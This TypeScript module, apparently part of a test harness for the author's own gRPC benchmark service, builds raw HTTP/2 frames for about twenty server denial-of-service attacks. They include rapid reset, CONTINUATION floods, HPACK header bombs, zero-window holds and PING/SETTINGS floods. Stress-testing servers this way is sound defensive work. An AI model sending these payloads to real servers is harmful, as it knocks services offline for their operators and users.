// Attacks on HTTP/2 servers, as the bytes that a client sends; what attacks on clients are made of too.

/** What the attacker sends on one connection. */
export interface Attack {
  readonly name: string;
  /** Hostile frames in all. */
  readonly total: number;
  readonly hello: Buffer;
  /** `count` frames, of which the first is number `from` of its connection. */
  frames(from: number, count: number): Buffer;
  /** Whether the attacker reads what it gets. @default true */
  readonly reads?: false;
}

export function frame(type: number, flags: number, id: number, payload: Uint8Array = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(id, 5);
  return Buffer.concat([head, payload]);
}

export function u32(...values: readonly number[]): Buffer {
  const bytes = Buffer.alloc(4 * values.length);
  for (const [i, value] of values.entries()) bytes.writeUInt32BE(value, 4 * i);
  return bytes;
}

/** A field that enters no table. */
export function field(name: string, value: string): Buffer {
  return Buffer.from([0, name.length, ...Buffer.from(name), value.length, ...Buffer.from(value)]);
}

export const setting = (id: number, value: number): Buffer => Buffer.concat([Buffer.from([0, id]), u32(value)]);
export const settings = (...entries: readonly Buffer[]): Buffer => frame(4, 0, 0, Buffer.concat(entries));
const request = Buffer.concat([
  Buffer.from([0x83, 0x86]),
  field(":path", "/bench.v1.BenchService/Chat"),
  field(":authority", "a"),
  field("content-type", "application/grpc+proto"),
  field("te", "trailers"),
]);
const open = (id: number, flags = 4): Buffer => frame(1, flags, id, request);
const idOf = (i: number): number => 2 * i + 1;
const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const hello = Buffer.concat([preface, settings(), frame(4, 1, 0)]);
const helloWith = (...more: readonly Buffer[]): Buffer => Buffer.concat([hello, ...more]);

export function attack(name: string, make: (i: number) => Buffer, more: Partial<Attack> = {}): Attack {
  const frames = (from: number, count: number): Buffer =>
    Buffer.concat(Array.from({ length: count }, (_, i) => make(from + i)));
  return { name, total: 20_000, hello, frames, ...more };
}

/** One large entry of the table, and then references to it in each head. */
const bombEntry = Buffer.concat([Buffer.from([0x40, 1, 0x61, 0x7f, 0xa1, 0x1e]), Buffer.alloc(4000, 0x78)]);
const bomb = (i: number): Buffer =>
  frame(1, 5, idOf(i), Buffer.concat(i === 0 ? [request, bombEntry] : [request, Buffer.alloc(4000, 0xbe)]));

export const attacks: readonly Attack[] = [
  attack("rapid reset", (i) => Buffer.concat([open(idOf(i)), frame(3, 0, idOf(i), u32(8))])),
  attack("provoked resets", (i) => Buffer.concat([open(idOf(i)), frame(8, 0, idOf(i), u32(0))])),
  attack("CONTINUATION without end", (i) =>
    i === 0 ? frame(1, 0, 1, request) : frame(9, 0, 1, field("a", "b".repeat(100))),
  ),
  attack("empty CONTINUATION without end", (i) => (i === 0 ? frame(1, 0, 1, request) : frame(9, 0, 1))),
  attack("header bombs", bomb, { total: 2000 }),
  attack("table sizes", (i) => settings(setting(1, i % 2 === 0 ? 0 : 65_536))),
  attack("SETTINGS", () => settings(setting(4, 65_535))),
  attack("SETTINGS, not reading", () => settings(), { reads: false }),
  attack("PING", () => frame(6, 0, 0, Buffer.alloc(8))),
  attack("PING, not reading", () => frame(6, 0, 0, Buffer.alloc(8)), { reads: false, total: 200_000 }),
  attack("empty DATA", () => frame(0, 0, 1), { hello: helloWith(open(1)) }),
  attack("empty HEADERS", (i) => frame(1, 5, idOf(i))),
  attack("RST_STREAM", () => frame(3, 0, 1, u32(8)), { hello: helloWith(open(1)) }),
  attack("WINDOW_UPDATE", () => frame(8, 0, 0, u32(1))),
  attack("dribbled windows", () => frame(8, 0, 1, u32(1)), {
    hello: Buffer.concat([
      preface,
      settings(setting(4, 0)),
      frame(4, 1, 0),
      open(1),
      frame(0, 0, 1, Buffer.concat([Buffer.from([0]), u32(8), Buffer.from([10, 6, 1, 2, 3, 4, 5, 6])])),
    ]),
  }),
  attack("zero windows held", (i) => open(idOf(i), 5), {
    hello: Buffer.concat([preface, settings(setting(4, 0)), frame(4, 1, 0)]),
    total: 2000,
  }),
  attack("streams opened and left", (i) => open(idOf(i)), { total: 2000 }),
  attack("priority churn", (i) => frame(2, 0, idOf(i % 1000), Buffer.concat([u32(0), Buffer.from([i & 255])]))),
  attack("huge padding", () => frame(0, 8, 1, Buffer.from([255, ...Buffer.alloc(255)])), { hello: helloWith(open(1)) }),
  attack("DATA of 1 byte", (i) => frame(0, 0, idOf(i % 100), Buffer.alloc(1)), {
    hello: helloWith(...Array.from({ length: 100 }, (_, i) => open(idOf(i)))),
  }),
  attack("preface alone", () => Buffer.alloc(0), { hello: preface, total: 100 }),
  attack("GOAWAY", (i) => frame(7, 0, 0, u32(0x7fff_ffff - i, 0))),
  attack("unknown frames", () => frame(99, 0, 0, Buffer.alloc(16))),
];
